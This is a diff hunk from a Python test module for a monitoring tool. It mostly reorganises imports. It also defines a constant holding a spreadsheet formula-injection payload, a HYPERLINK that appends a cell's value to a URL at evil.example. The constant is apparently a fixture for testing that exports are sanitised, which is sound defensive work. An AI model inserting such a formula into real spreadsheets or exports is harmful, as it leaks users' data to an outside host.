@@ -21,11 +21,11 @@ import pytest
 from alert_servers import ANDRY, AlertWorld, client_tls
 from conftest import run_monitor, write_config
 
+from monitor.archive.store import Archive
 from monitor.config import EmailSettings, load_config
 from monitor.errors import ConfigError
 from monitor.items import Article, Mention, Person
-from monitor.serve import build_datasette
-from monitor.store import Archive
+from monitor.web.serve import build_datasette
 
 tls_files = alert_servers.tls_files
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
